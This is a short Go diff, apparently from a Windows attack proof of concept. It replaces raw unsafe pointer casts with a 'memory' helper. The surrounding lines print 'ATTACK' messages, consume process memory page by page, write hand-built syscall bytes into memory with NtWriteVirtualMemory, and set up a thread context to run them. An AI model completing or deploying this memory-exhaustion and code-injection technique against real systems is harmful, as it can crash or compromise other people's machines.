@@ -34,7 +34,7 @@ func eat(keep uint64) {
 			break
 		}
 		for a := b; a < b+size; a += nt.PageSize {
-			*(*byte)(unsafe.Pointer(uintptr(a))) = 1
+			*(*byte)(memory(a)) = 1
 		}
 	}
 	fmt.Println("ATTACK eaten:", kernel())
@@ -62,7 +62,7 @@ func init() {
 		loop[46] = byte(nt.SvcFreeVirtualMemory)
 		loop[47], loop[48], loop[49] = 0, 0, 0
 		ntdll.NtWriteVirtualMemory(nt.CurrentProcess, code, loop)
-		data := (*[4]uint64)(unsafe.Pointer(uintptr(code + 0x100)))
+		data := (*[4]uint64)(memory(code + 0x100))
 		data[0] = base + size - 0x10000
 		c := nt.Context{Rip: code, Rsp: code + 0xF000}
 		fmt.Println("ATTACK ready:", kernel())
